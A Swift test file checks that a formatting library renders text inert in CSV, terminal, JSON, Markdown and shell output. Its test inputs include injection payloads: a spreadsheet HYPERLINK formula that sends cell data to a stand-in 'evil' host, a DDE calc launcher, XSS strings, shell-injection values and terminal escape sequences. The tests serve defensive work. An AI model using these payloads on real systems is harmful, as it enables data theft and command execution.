import Formatting
import Testing

/// What is written for others does nothing where it is read.
@Suite struct InertTextTests {
  @Test(arguments: [
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+1+cmd", "-1+2", "@SUM(A1)",
    "\t=1",
    "\r=1", "\n=1", "  =1", "\u{FF1D}1", "\u{FEFF}=1", "|x", "%00",
  ])
  func noFieldIsAFormula(text: String) {
    let field = CSV.row([text])
    let inner = field.hasPrefix("\"") ? field.dropFirst() : field[...]
    #expect(inner.hasPrefix("'"), "\(field)")
  }

  @Test(arguments: ["", "text", "-1.5", "+3", "1e-05", "-0.25", "a=b", "'quoted"])
  func numbersAndTextsStayAsTheyAre(text: String) { #expect(CSV.row([text]) == text) }

  @Test func fieldsAreQuoted() {
    #expect(CSV.row(["a;=1", "b\t=1"]) == "\"a;=1\",\"b\t=1\"")
    #expect(CSV.row(["a,b", "say \"x\"", "one\ntwo"]) == "\"a,b\",\"say \"\"x\"\"\",\"one\ntwo\"")
  }

  @Test func linesStayOneLineAndCommandNothing() {
    let text = "a\nb\r\u{1B}]52;c;x\u{07}\u{9B}31m\u{202E}\u{2028}c\u{7F}"
    let line = HiddenCharacters.line(text)
    #expect(line == "a␊b··]52;c;x··31m·␊c·")
    #expect(HiddenCharacters.lines("a\nb\u{1B}") == "a\nb·")
    #expect(HiddenCharacters.line("a\u{200B}\u{2060}\u{FEFF}\u{E0041}b") == "a····b")
    let clean = "Übung 日本 🙂 e\u{301} 👩\u{200D}🚀 می\u{200C}خواهم"
    #expect(HiddenCharacters.line(clean) == clean)
  }

  @Test func jsonSpellsWhatCommandsATerminal() {
    let json = HiddenCharacters.escapedJSON(
      "{\n  \"a\": \"x\u{9D}0;t\u{9C}\u{202E}\u{2029}\u{7F}\"\n}")
    #expect(json == "{\n  \"a\": \"x\\u009d0;t\\u009c\\u202e\\u2029\\u007f\"\n}")
    #expect(HiddenCharacters.escapedJSON("\"\u{E0041}\u{200B}\"") == "\"\\udb40\\udc41\\u200b\"")
  }

  @Test(arguments: [
    "<script>alert(1)</script>", "![x](http://evil/x.png)", "[y](javascript:alert(1))", "`code`",
    "a | b",
    "<img src=x onerror=y>", "# no heading", "> no quotation", "http://evil/", "www.evil.example",
    "[x]: http://evil", "a\\![x](y)", "**bold**", "~~~ a fence", "&#91;x&#93;(y)",
  ])
  func markdownHoldsNothingOfADocuments(text: String) {
    let escaped = Markdown.escaped(text)
    // Every sign that begins something has a backslash before it, an odd number in a row.
    var slashes = 0
    for scalar in escaped.unicodeScalars {
      if "[]`|*~".unicodeScalars.contains(scalar) { #expect(slashes % 2 == 1, "\(escaped)") }
      #expect(scalar != "<", "\(escaped)")
      slashes = scalar == "\\" ? slashes + 1 : 0
    }
    #expect(!escaped.contains("://") && !escaped.contains("www."), "\(escaped)")
    #expect(!escaped.replacing("&amp;", with: "").replacing("&lt;", with: "").contains("&"))
    #expect(!escaped.hasPrefix("#") && !escaped.hasPrefix(">"), "\(escaped)")
  }

  @Test(arguments: [
    ("plain/path-1.txt", "plain/path-1.txt"), ("a b", "'a b'"),
    ("a';touch x;'b", "'a'\\'';touch x;'\\''b'"),
    ("", "''"), ("$(x)", "'$(x)'"), ("~", "'~'"),
    ("a\u{15}touch x\nb'\\", "$'a\\x15touch x\\x0ab\\'\\\\'"),
    ("\u{1B}[201~\u{9B}\u{202E}\u{E0041}", "$'\\x1b[201~\\u009b\\u202e\\U000e0041'"),
  ])
  func wordsOfCommandsStayOneWord(text: String, word: String) { #expect(shellWord(text) == word) }
}
